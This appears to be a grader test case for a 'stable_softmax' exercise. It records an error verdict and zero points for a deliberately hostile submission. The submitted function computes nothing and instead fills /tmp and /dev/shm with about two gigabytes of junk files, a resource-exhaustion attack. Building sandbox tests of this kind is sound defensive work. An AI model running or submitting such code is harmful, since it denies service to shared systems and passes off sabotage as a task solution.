# exercise: stable_softmax
# verdict: error
# earned: 0
# why: fills the only folders that it may write to


def stable_softmax(Z):
    for number in range(1000):
        for folder in ("/tmp", "/dev/shm"):
            with open(f"{folder}/d2l-hostile-{number}", "wb") as file:
                file.write(b"x" * 10**6)
